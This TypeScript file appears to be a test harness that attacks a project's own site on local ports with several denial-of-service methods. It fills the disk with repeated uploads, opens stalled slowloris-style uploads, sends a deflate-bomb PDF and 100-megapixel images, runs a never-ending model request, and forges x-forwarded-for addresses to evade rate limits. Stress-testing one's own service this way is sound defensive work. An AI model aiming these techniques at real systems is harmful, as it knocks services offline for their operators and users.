import net from "node:net";
/** `node attack-site.ts KIND SITE_PORT API_PORT LISTING`: attacks the site of a port until it is ended. */
import { setTimeout } from "node:timers/promises";
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { makePhoto } from "../publish/photos.ts";
import { askWithoutEnd } from "./ask-without-end.ts";
import type { AttackKind } from "./attack-kinds.ts";
import { openPerson, type SitePerson } from "./site-person.ts";

/** Of this process alone: one address may register a few accounts an hour. */
const ADDRESS = `203.0.${(process.pid >> 8) % 256}.${process.pid % 256}`;
/** Files that are sent at the same time. */
const AT_ONCE = 4;
/** Rests after a refusal, so that refusals are not all that is measured, ms. */
const REST_MS = 50;
/** Uncompressed bytes of a packed PDF, and their length when they are packed. */
const PACKED_BYTES = 400_000_000;
/** Width and height of the largest photo that is taken. */
const SIDE = 10_000;

interface SentFile {
  kind: "images" | "attachments";
  name: string;
  mimeType: string;
  buffer: Buffer;
}

/** Sends a file again and again, to a new draft each time where `isSpread`. */
async function sendFiles(person: SitePerson, file: SentFile, isSpread: boolean): Promise<void> {
  const { kind, ...sent } = file;
  const first = await person.newDraft();
  const send = async () => {
    for (;;) {
      const draft = isSpread ? await person.newDraft().catch(() => first) : first;
      const response = await person.server.post(`${draft}/${kind}`, {
        multipart: { file: sent },
        headers: { ...person.headers },
        timeout: 0,
      });
      if (!response.ok()) await setTimeout(REST_MS);
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, send));
}

/** Connections of one address that announce large files and then send nothing. */
async function stall({ newDraft, headers }: SitePerson, port: number): Promise<void> {
  const draft = await newDraft();
  const opening =
    `POST ${draft}/attachments HTTP/1.1\r\nhost: no.localhost:${port}\r\nx-forwarded-for: ${ADDRESS}\r\n` +
    `authorization: ${headers.authorization}\r\ncontent-type: multipart/form-data; boundary=a\r\n` +
    `content-length: ${25 * 1_024 * 1_024}\r\n\r\n--a\r\n`;
  for (;;) {
    await Promise.all(
      Array.from(
        { length: 7 },
        () =>
          new Promise<void>((resolve) => {
            const socket = net.connect(port, "127.0.0.1", () => socket.write(opening));
            socket.on("error", () => undefined);
            socket.on("close", () => resolve());
            socket.resume();
          }),
      ),
    );
    await setTimeout(REST_MS);
  }
}

/** A PDF of some hundred kilobytes that would become very large. */
const packedPdf = (): Buffer => {
  const contents = deflateSync(Buffer.alloc(PACKED_BYTES), { level: 9 });
  return Buffer.concat([
    Buffer.from(
      "%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[4 0 R]/Count 1>>\nendobj\n" +
        `4 0 obj\n<</Type/Page/Parent 2 0 R>>\nendobj\n3 0 obj\n<</Type/ObjStm/N 1/First 10/Filter/FlateDecode/Length ${contents.length}>>\nstream\n`,
    ),
    contents,
    Buffer.from("\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF"),
  ]);
};

const largestPhoto = (): Promise<Buffer> =>
  sharp({ create: { width: SIDE, height: SIDE, channels: 3, background: "#888888" } })
    .avif({ quality: 10, effort: 0 })
    .toBuffer();

const [kind, sitePort, apiPort, listing = ""] = process.argv.slice(2);
const attacks: Readonly<Record<AttackKind, (person: SitePerson) => Promise<void>>> = {
  "fill the disk": async (person) =>
    sendFiles(
      person,
      { kind: "images", name: "a.jpg", mimeType: "image/jpeg", buffer: await makePhoto(7) },
      true,
    ),
  "stalled uploads": (person) => stall(person, Number(sitePort)),
  "packed PDFs": (person) =>
    sendFiles(
      person,
      { kind: "attachments", name: "a.pdf", mimeType: "application/pdf", buffer: packedPdf() },
      false,
    ),
  "photos of 100 megapixels": async (person) =>
    sendFiles(
      person,
      { kind: "images", name: "a.avif", mimeType: "image/avif", buffer: await largestPhoto() },
      true,
    ),
  "a model without an end": () => askWithoutEnd(Number(apiPort), listing),
};
const person = await openPerson(Number(sitePort), `attacker.${process.pid}`, ADDRESS);
await attacks[kind as AttackKind](person);
